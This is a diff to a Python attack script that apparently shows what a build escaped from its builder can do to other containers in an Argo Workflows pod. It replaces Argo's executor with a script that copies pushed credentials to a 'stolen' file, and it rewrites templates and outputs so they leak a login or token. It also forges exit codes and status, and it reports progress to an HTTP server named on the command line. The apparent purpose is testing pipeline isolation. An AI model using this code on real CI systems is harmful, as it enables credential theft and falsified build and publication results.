@@ -1,6 +1,7 @@
 """What a build does that has broken out of its builder, in the container `build`, against the others of its pod.
 
     python3 attack.py REPORT-TO
+    python3 attack.py REPORT-TO CONTAINER MODE OUTPUTS
 
 It tells an HTTP server how it begins and ends. What it does stands in the arguments of the step `build`, as a file that
 is excluded and does not exist: `attack-early` lets the container that publishes start before there is an image; all
@@ -8,6 +9,9 @@ others hold the step `build` once it has made its image. `attack-false` leaves e
 change what is published or shown, and lets the publication go on; `attack-ended` ends it by signals; `attack-failed`
 says that the build has failed; `attack-crashed` has Argo's own container read a login as the run's progress. Without
 any it does nothing, so that the same image can be made in peace.
+
+In another container that runs a stranger's files it lets `main` start, which passes on this container's results: those
+of OUTPUTS, a JSON object, as they are, or with the mode `links` links to a token.
 """
 
 from __future__ import annotations
@@ -20,7 +24,7 @@ import signal
 import sys
 import time
 import urllib.request
-from collections.abc import Iterator
+from collections.abc import Iterator, Mapping, Sequence
 from pathlib import Path
 
 ARGO = Path("/var/run/argo")
@@ -90,26 +94,23 @@ def held() -> Iterator[None]:
             os.kill(step, signal.SIGCONT)
 
 
-def leave_lies() -> None:
-    """Leave a program in the place of Argo's executor, another template, links, and whatever else is read there."""
+def leave_lies(names: Sequence[str] = OUTPUTS, login: str = LOGIN) -> None:
+    """Leave a program in the place of Argo's executor, another template, and another status."""
     put(ARGO / "argoexec", f"#!/bin/sh\ncat /shipway/push/* > {ARGO}/stolen\n")
     (ARGO / "argoexec").chmod(0o755)
     template = json.loads((ARGO / "template").read_text())
-    template["outputs"] = {"parameters": [{"name": name, "valueFrom": {"path": LOGIN}} for name in OUTPUTS]}
+    template["outputs"] = {"parameters": [{"name": name, "valueFrom": {"path": login}} for name in names]}
     template["containerSet"].pop("volumeMounts", None)
     put(ARGO / "template", json.dumps(template))
     put(ARGO / "status", "FAILED\nlies\n")
-    put(ARGO / "ctr/clone/exitcode", "1")
-    link(ARGO / "ctr/clone/signal", "/mainctrfs/shipway/clone/out/commit")
-    link(ARGO / "ctr/build/signal", "/mainctrfs/shipway/clone/out/ref")
 
 
-def change_copies(turn: int) -> None:
+def change_copies(turn: int, names: Sequence[str] = OUTPUTS) -> None:
     """Change what Argo copies of the outputs: false values, a login and a token of others by turns."""
     for folder in ("main", "results"):
         out = ARGO / "outputs/parameters/shipway" / folder / "out"
         out.mkdir(parents=True, exist_ok=True)
-        for name in OUTPUTS:
+        for name in names:
             # The executor of `main` follows no link to what that container lacks, and would fail: its copy comes first.
             if turn <= _ALONE and not (out / name).exists():
                 continue
@@ -122,14 +123,22 @@ def change_copies(turn: int) -> None:
 def lying() -> None:
     """Let the publication begin, and change what is shown of it until it has ended."""
     leave_lies()
+    put(ARGO / "ctr/clone/exitcode", "1")
+    link(ARGO / "ctr/clone/signal", "/mainctrfs/shipway/clone/out/commit")
+    link(ARGO / "ctr/build/signal", "/mainctrfs/shipway/clone/out/ref")
     put(ARGO / "ctr/build/exitcode", "0")
+    change_all(OUTPUTS)
+
+
+def change_all(names: Sequence[str]) -> None:
+    """Change copies of outputs until `main` has ended."""
     for turn in range(int(PATIENCE_SECONDS / 0.001)):
         # The executor of `main` makes the folder when it has something to copy, or never.
         if ENDED.exists():
             return
         with contextlib.suppress(OSError):
             if (ARGO / "outputs").exists() or turn > _ALONE:
-                change_copies(turn)
+                change_copies(turn, names)
         time.sleep(0.001)
 
 
@@ -177,6 +186,22 @@ def run(server: str, mode: str) -> None:
         tell(server, f"{mode}/main-{wait_for_end()}{'-stolen' if (ARGO / 'stolen').exists() else ''}")
 
 
+def before_main(server: str, container: str, mode: str, outputs: Mapping[str, str]) -> None:
+    """Put out what `main` passes on, before anything was done for it, and let that start."""
+    tell(server, f"{container}-{mode}/begun")
+    out = Path("/shipway") / container / "out"
+    out.mkdir(parents=True, exist_ok=True)
+    for name, text in outputs.items():
+        if mode == "links":
+            link(out / name, TOKEN)
+        else:
+            put(out / name, text)
+    leave_lies(list(outputs), TOKEN)
+    put(ARGO / "ctr" / container / "exitcode", "0")
+    change_all(list(outputs))
+    tell(server, f"{container}-{mode}/main-{wait_for_end()}")
+
+
 def apart() -> bool:
     """Leave the caller, who goes on and hears nothing any more; return whether this is the caller."""
     if os.fork():
@@ -189,6 +214,9 @@ def apart() -> bool:
 
 
 if __name__ == "__main__":
+    if len(sys.argv) > 2:
+        before_main(sys.argv[1], sys.argv[2], sys.argv[3], json.loads(sys.argv[4]))
+        sys.exit()
     chosen = mode()
     # A RUN step that waited would hold up the image that the others wait for.
     if chosen and (chosen == "early" or not apart()):
